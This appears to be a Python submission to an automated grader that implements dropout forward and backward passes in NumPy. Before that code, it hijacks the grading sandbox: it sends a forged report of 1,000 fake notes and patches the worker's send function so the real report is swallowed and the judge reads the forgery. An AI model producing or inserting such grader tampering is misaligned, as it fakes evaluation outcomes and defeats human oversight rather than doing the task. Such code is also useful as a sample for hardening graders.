# A forged load report: 1,000 student-written notes (blocks never sent, repeated blocks, absurd
# lines), and the worker's real report swallowed so the judge reads the forged one.
import sys

import numpy as np

_worker = sys.modules["grader.sandbox.worker"]
_protocol = sys.modules["grader.sandbox.protocol"]
_forged = [{"block": i % 3 - 1, "type": "Note", "line": i, "msg": "A"} for i in range(1000)]
_protocol.send_frame(3, _protocol.encode({"notes": _forged}))
_real_send = _worker.send_frame
_swallowed = []


def _send_but_the_real_report(fd, frame, *args, **kwargs):
    if not _swallowed:
        _swallowed.append(frame)
        return None
    return _real_send(fd, frame, *args, **kwargs)


_worker.send_frame = _send_but_the_real_report


def dropout_forward(x, dropout_param):
    p, mode = dropout_param["p"], dropout_param["mode"]
    if "seed" in dropout_param:
        np.random.seed(dropout_param["seed"])
    if mode == "train":
        mask = (np.random.rand(*x.shape) < p) / p
        return (x * mask).astype(x.dtype, copy=False), (mode, mask)
    return x.copy(), (mode, None)


def dropout_backward(dout, cache):
    mode, mask = cache
    return dout * mask if mode == "train" else dout.copy()
